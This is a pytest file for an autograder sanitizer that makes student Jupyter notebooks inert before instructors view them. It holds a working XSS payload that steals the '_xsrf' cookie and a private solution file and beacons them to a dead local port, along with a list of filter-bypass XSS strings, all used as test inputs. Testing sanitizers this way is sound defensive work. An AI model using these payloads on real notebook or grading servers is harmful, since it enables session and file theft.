"""autograder/inert.py: a student's markdown and outputs, made inert before an instructor's
browser shows them (formgrader's manual-grading page, the feedback HTML).

Each payload of :func:`add_xss` (which ``tests/test_autograder.py`` hands in as a real
submission, loaded there in Chromium) goes through :class:`inert.MakeInert` and nbconvert's
HTML export; the page may then hold the payloads' address only as text, never in a script or
an attribute. The same export without :class:`MakeInert` must hold them live (the check can
fail). Honest work is unchanged: the lesson's markdown, a matplotlib PNG, text.
"""

from __future__ import annotations

import base64
import functools
import io
import sys
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "autograder"))
pytest.importorskip("nh3")
nbconvert = pytest.importorskip("nbconvert")

import inert  # noqa: E402

A = "cnn_interpretability"
PORT = 9  # nothing listens: only where the address lands in the page matters here
#: Text of the XSS student's that the instructor must still see (shown, not run).
XSS_ANSWER = "XSS-ANSWER the first filters pick out colours and edges"
XSS_HONEST = "XSS-HONEST-MARKDOWN"


def steal(port: int, tag: str) -> str:
    """What a script in the instructor's page would do: read the ``_xsrf`` cookie, fetch a
    private file with it, send both to 127.0.0.1:``port`` (named ``tag``). No double quote."""
    return (f"fetch('/api/contents/source/{A}/{A}.ipynb',{{headers:{{'X-XSRFToken':"
            "(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]}}).then(r=>r.text(),e=>String(e))"
            f".then(t=>{{new Image().src='http://127.0.0.1:{port}/{tag}?'+"
            "encodeURIComponent(document.cookie+t.slice(0,200))})")


def add_xss(nb, port: int, after: str = "network", answer: str = "ex3_answer"):
    """Every way a student's notebook could run a script in a page of the instructor's:
    markdown (``img onerror``, ``script``, ``svg onload``, ``iframe srcdoc``), a raw cell, a
    written answer (cell ``answer``), ``display(HTML(...))``, ``display(Javascript(...))``, an
    HTML output with ``img onerror``; a widget view and an honest figure beside them; all
    after cell ``after``."""
    js = functools.partial(steal, port)
    new = nbformat.v4
    script = f"<script>{js('out-html')}</script>"
    image = f'<b>bold</b><img src=x onerror="{js("out-img")}">'
    k = [c.get("id") for c in nb.cells].index(after) + 1
    nb.cells[k:k] = [
        new.new_markdown_cell(f"{XSS_HONEST}: my notes, **in bold**"),
        new.new_markdown_cell(f'A picture <img src=x onerror="{js("md-img")}"> of it'),
        new.new_markdown_cell(f"<script>{js('md-script')}</script>"),
        new.new_markdown_cell(f'<svg onload="{js("md-svg")}"></svg>'),
        new.new_markdown_cell(f'<iframe srcdoc="<script>{js("md-iframe")}</script>"></iframe>'),
        new.new_raw_cell(f'<img src=x onerror="{js("raw")}">'),
        new.new_code_cell(
            "from IPython.display import HTML, Javascript, display\n"
            f"display(HTML({script!r}))\ndisplay(Javascript({js('out-js')!r}))\n"
            f"display(HTML({image!r}))\n"
            "display({'application/vnd.jupyter.widget-view+json': {'model_id': 'xss', "
            "'version_major': 2, 'version_minor': 0}, 'text/plain': 'a widget'}, raw=True)\n"
            "import matplotlib.pyplot as plt\nplt.plot([0, 1], [1, 0])\nplt.show()"),
    ]
    answer_cell = next(c for c in nb.cells if c.get("id") == answer)
    answer_cell.source = (f"**Your answer:**\n\n{XSS_ANSWER}."
                          f'<img src=x onerror="{js("answer")}">')
    return nb


def png() -> str:
    """A real matplotlib PNG, base64 (as the inline backend sends it)."""
    from matplotlib.figure import Figure
    fig = Figure(figsize=(1, 1))
    fig.add_subplot().plot([0, 1], [1, 0])
    buf = io.BytesIO()
    fig.savefig(buf, format="png")
    return base64.b64encode(buf.getvalue()).decode() + "\n"


def xss_notebook():
    """:func:`add_xss` on a small notebook, with the outputs its code cell gives in a kernel."""
    new = nbformat.v4
    nb = new.new_notebook(cells=[new.new_code_cell("print(1)", id="network"),
                                 new.new_markdown_cell("**Your answer:**", id="ex3_answer")])
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    add_xss(nb, PORT)
    js = functools.partial(steal, PORT)
    code = next(c for c in nb.cells if c.cell_type == "code" and "Javascript" in c.source)
    code.outputs = [
        new.new_output("display_data", {"text/html": f"<script>{js('out-html')}</script>",
                                        "text/plain": "<IPython.core.display.HTML object>"}),
        new.new_output("display_data", {"application/javascript": js("out-js"),
                                        "text/plain": "<IPython.core.display.Javascript object>"}),
        new.new_output("display_data", {"text/html": f'<b>bold</b><img src=x onerror="{js("out-img")}">',
                                        "text/plain": "<IPython.core.display.HTML object>"}),
        new.new_output("display_data", {"application/vnd.jupyter.widget-view+json": {
            "model_id": "xss", "version_major": 2, "version_minor": 0}, "text/plain": "a widget"}),
        new.new_output("display_data", {"text/markdown": f"[x](javascript:{js('out-md')})"}),
        new.new_output("display_data", {"image/png": png(), "text/plain": "<Figure>"}),
    ]
    return nb


class _Live(HTMLParser):
    """Where the payloads' address stands in a page: in a script or an attribute (live),
    or in text (shown)."""

    def __init__(self, marker):
        super().__init__(convert_charrefs=True)
        self.marker, self.live, self.shown, self.script = marker, [], 0, False
        self.urls = []

    def handle_starttag(self, tag, attrs):
        self.script = tag == "script"
        self.urls += [v for a, v in attrs if a in ("href", "src") and v]
        for name, value in attrs:
            if self.marker in (value or "") or name.startswith("on") and value and \
                    "/api/" in value:
                self.live.append(f"<{tag} {name}=...>")

    def handle_endtag(self, tag):
        self.script = False

    def handle_data(self, data):
        if self.marker in data:
            if self.script:
                self.live.append("<script>")
            else:
                self.shown += data.count(self.marker)


def live_payloads(html: str, port: int = PORT) -> _Live:
    """Where the address ``127.0.0.1:port`` of :func:`add_xss` stands in a page."""
    parser = _Live(f"127.0.0.1:{port}/")
    parser.feed(html)
    parser.close()
    return parser


def export(nb, *preprocessors) -> str:
    exporter = nbconvert.HTMLExporter(template_name="classic")
    for p in preprocessors:
        exporter.register_preprocessor(p)  # as nbgrader's Autograde does: enabled by default
    return exporter.from_notebook_node(nb)[0]


def test_every_payload_runs_without_the_sanitizer():
    """The control: nbconvert alone puts them in scripts and attributes."""
    found = live_payloads(export(xss_notebook())).live
    assert len(found) >= 8, found


def test_every_payload_is_inert_after_it():
    nb = xss_notebook()
    html = export(nb, inert.MakeInert)
    page = live_payloads(html)
    assert page.live == []
    assert page.shown >= 8  # each payload still there for the instructor to read, as text
    assert "javascript" not in "".join(page.urls).lower()
    assert XSS_ANSWER in html and "<strong>in bold</strong>" in html
    assert html.count("shown as text, not rendered") >= 6 and "removed a JavaScript output" in html
    assert "<b>bold</b>" in html  # what was harmless in an unsafe output is kept


def test_honest_png_text_and_widget_data_survive():
    nb = xss_notebook()
    inert.make_inert(nb)
    outputs = next(c for c in nb.cells if c.cell_type == "code" and "Javascript" in c.source).outputs
    assert outputs[-1].data["image/png"] == png() and outputs[-1].data["text/plain"] == "<Figure>"
    assert outputs[3].data["application/vnd.jupyter.widget-view+json"]["model_id"] == "xss"
    assert "widgets" not in nb.metadata  # the state that makes nbconvert load widget code
    assert "application/javascript" not in outputs[1].data
    html = export(nb)
    assert f'src="data:image/png;base64,{outputs[-1].data["image/png"].strip()}' in html


def test_the_lesson_and_the_solution_are_unchanged():
    for path in (ROOT / "lessons" / f"{A}.ipynb", ROOT / "solutions" / f"{A}.ipynb"):
        if not path.exists():
            continue
        nb = nbformat.read(path, as_version=4)
        before = nbformat.writes(nb)
        assert inert.make_inert(nb) == [], path
        assert nbformat.writes(nb) == before


def test_making_inert_twice_changes_nothing_more():
    nb = xss_notebook()
    assert len(inert.make_inert(nb)) >= 8
    once = nbformat.writes(nb)
    assert inert.make_inert(nb) == [] and nbformat.writes(nb) == once


@pytest.mark.parametrize("html", [
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<A HREF=" JaVaScRiPt:alert(1)">x</A>',
    '<IMG SRC=x ONERROR=alert(1)>',
    "<!-- --!><img src=x onerror=alert(1)> -->",
    '<img src="http://127.0.0.1:9/beacon">',
    '<img src="&#1;http://127.0.0.1:9/beacon">',
    '<img src="\\\\127.0.0.1:9/beacon">',
    '<img src=" //127.0.0.1:9/beacon">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<div style="background:url(http://127.0.0.1:9/)">x</div>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="http://127.0.0.1:9/"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<a href="x" onclick="alert(1)" onclick="y">x</a>',
])
def test_tricky_html_is_found_and_cleaned(html):
    assert inert.unsafe_parts(html), html
    cleaned = inert.clean_html(html)
    assert inert.unsafe_parts(cleaned) == [], cleaned
    lowered = cleaned.lower()
    assert "onerror" not in lowered and "javascript" not in lowered and "127.0.0.1" not in lowered


@pytest.mark.parametrize("markdown", [
    "[x](javascript:alert(1))", "$\\href{javascript:alert(1)}{x}$",
    "- a\n- <img src=x onerror=alert(1)>", "<details><summary>x</summary><script>y</script></details>",
])
def test_markdown_that_a_browser_would_act_on_is_shown_as_text(markdown):
    out = inert.inert_markdown(markdown)
    assert out is not None and markdown in out  # verbatim, in a code block
    assert inert.unsafe_parts(nbconvert.filters.markdown2html(out)) == []


def test_ordinary_markdown_and_html_pass_unchanged():
    table = "| a | b |\n|:--|--:|\n| 1 | 2 |"
    for md in ("**bold** and `a<b>`", table, "# Title\n\n- one\n- [link](https://example.org)",
               "<details open><summary>more</summary>text</details>"):
        assert inert.inert_markdown(md) is None, md
    assert inert.unsafe_parts("<table><tr><td>1</td></tr></table>") == []
    data = {"text/html": "<p>a <b>table</b></p>", "image/png": png()}
    output = nbformat.v4.new_output("display_data", dict(data))
    assert inert.inert_output(output) == [] and output.data["image/png"] == data["image/png"]


def test_images_and_attachments_must_be_base64_images():
    output = nbformat.v4.new_output("display_data", {"image/png": '" onerror="alert(1)'})
    assert inert.inert_output(output) and "image/png" not in output.data
    assert "not base64" in output.data["text/plain"]
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("![a](attachment:a)")])
    nb.cells[0].attachments = {"a": {"text/html": "<script>x</script>"},
                               "b": {"image/png": png()}}
    assert inert.make_inert(nb) and nb.cells[0].attachments["b"]["image/png"] == png()
    assert nb.cells[0].attachments["a"] == {"image/gif": inert.BLANK_GIF}
    assert "<script>x" not in export(nb)  # and the page renders (no attachment missing)
